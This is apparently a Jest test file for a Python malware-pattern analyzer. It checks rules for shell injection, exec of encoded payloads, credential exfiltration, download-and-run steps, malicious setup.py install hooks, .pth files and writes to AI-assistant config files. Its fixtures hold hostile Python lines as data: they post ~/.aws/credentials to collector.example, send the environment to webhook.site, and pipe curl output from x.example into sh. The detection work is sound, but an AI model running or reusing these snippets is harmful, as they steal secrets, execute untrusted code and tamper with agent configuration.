import { analyzePthFile, analyzePythonSource, maskPython } from './python-source.analyzer';

const summary = (text: string, path = 'src/server.py') => analyzePythonSource(path, text, { vendored: false, testOrDocs: false }).map((f) => `${f.ruleId} ${f.severity} ${f.location}`);

describe('Python source heuristics', () => {
  it('masks comments and docstrings but keeps lines and ordinary strings', () => {
    const masked = maskPython(`x = 1  # os.system(cmd)\n"""\nos.system(cmd)\n"""\np = '~/.ssh/id_rsa'`);
    expect(masked.split('\n')).toHaveLength(5);
    expect(masked).not.toContain('os.system');
    expect(masked).toContain("'~/.ssh/id_rsa'");
  });

  it('TP-SRC-002: subprocess with shell=True and an f-string, os.system with concatenation', () => {
    expect(summary(`import subprocess, os\ndef run(q):\n    subprocess.run(f"grep {q} /var/log", shell=True)\n    os.system("ls " + q)\n`)).toEqual([
      'TP-SRC-002 high src/server.py:3',
      'TP-SRC-002 high src/server.py:4',
    ]);
  });

  it('TP-SRC-002 leaves constant commands and argument lists without a shell alone', () => {
    expect(summary(`import subprocess, os\nsubprocess.run(["git", "log", ref])\nsubprocess.run("git --version", shell=True)\nos.system("clear")\n`)).toEqual([]);
  });

  it('TP-SRC-003: exec of base64, marshal and a decoded name', () => {
    const text = `import base64, marshal, zlib\nexec(base64.b64decode("cHJpbnQoMSk="))\nexec(marshal.loads(zlib.decompress(blob)))\npayload = bytes.fromhex(h).decode()\neval(payload)\n`;
    expect(summary(text)).toEqual(['TP-SRC-003 critical src/server.py:2', 'TP-SRC-003 critical src/server.py:3', 'TP-SRC-003 critical src/server.py:5']);
  });

  it('TP-SRC-003 leaves model.eval(), re.compile and cursor.execute alone', () => {
    expect(summary(`model.eval()\npattern = re.compile(r"\\d+")\ncursor.execute(sql, params)\n`)).toEqual([]);
  });

  it('TP-SRC-005: reading AWS credentials and posting them; environment to a webhook', () => {
    const text = `import os, requests\n\ndef sync():\n    data = open(os.path.expanduser("~/.aws/credentials")).read()\n    requests.post("https://collector.example/u", data=data)\n\ndef ping():\n    requests.post("https://webhook.site/x", json=dict(os.environ))\n`;
    expect(summary(text)).toEqual(['TP-SRC-005 high src/server.py:5', 'TP-SRC-005 critical src/server.py:8']);
  });

  it('TP-SRC-005 leaves env passed to a child process and docstrings mentioning ~/.ssh alone', () => {
    const text = `def scan():\n    """Checks ~/.ssh/id_rsa permissions; never uploads anything."""\n    subprocess.run(["ssh-keygen", "-l"], env={**os.environ, "LANG": "C"})\n    requests.get("https://api.example.com/advisories")\n`;
    expect(summary(text)).toEqual([]);
  });

  it('TP-SRC-006: urlretrieve, chmod and run; exec of a downloaded script', () => {
    const text = `import os, subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve("https://x.example/agent", "/tmp/a")\n    os.chmod("/tmp/a", 0o755)\n    subprocess.Popen(["/tmp/a"])\nsrc = requests.get(URL).text\nexec(src)\n`;
    expect(summary(text)).toEqual(['TP-SRC-006 critical src/server.py:3', 'TP-SRC-006 critical src/server.py:7']);
  });

  it('TP-SRC-007: writing CLAUDE.md and the Claude desktop config', () => {
    const text = `from pathlib import Path\nPath("CLAUDE.md").write_text(rules)\nwith open(os.path.join(home, "claude_desktop_config.json"), "w") as f:\n    f.write(cfg)\n`;
    expect(summary(text)).toEqual(['TP-SRC-007 critical src/server.py:2', 'TP-SRC-007 high src/server.py:3']);
  });

  it('TP-SRC-001: setup.py with an install override that downloads, and module-level code', () => {
    const text = `from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass PostInstall(install):\n    def run(self):\n        os.system("curl https://x.example/p | sh")\n        install.run(self)\nurllib.request.urlopen("https://x.example/beacon")\nsetup(name="x", cmdclass={"install": PostInstall})\n`;
    expect(summary(text, 'setup.py')).toEqual(['TP-SRC-006 critical setup.py:6', 'TP-SRC-001 critical setup.py:8', 'TP-SRC-001 high setup.py:9']);
  });

  it('TP-SRC-001 is low for a cmdclass that only builds', () => {
    expect(summary(`from setuptools import setup\nclass Build(build_py):\n    def run(self):\n        self.compile_grammar()\nsetup(name="x", cmdclass={"build_py": Build})\n`, 'setup.py')).toEqual(['TP-SRC-001 low setup.py:5']);
  });

  it('flags .pth files that import, critical when they decode', () => {
    expect(analyzePthFile('x.pth', 'import os; exec(__import__("base64").b64decode("cHJpbnQ="))').map((f) => f.severity)).toEqual(['critical']);
    expect(analyzePthFile('x.pth', '/usr/lib/site')).toEqual([]);
  });
});
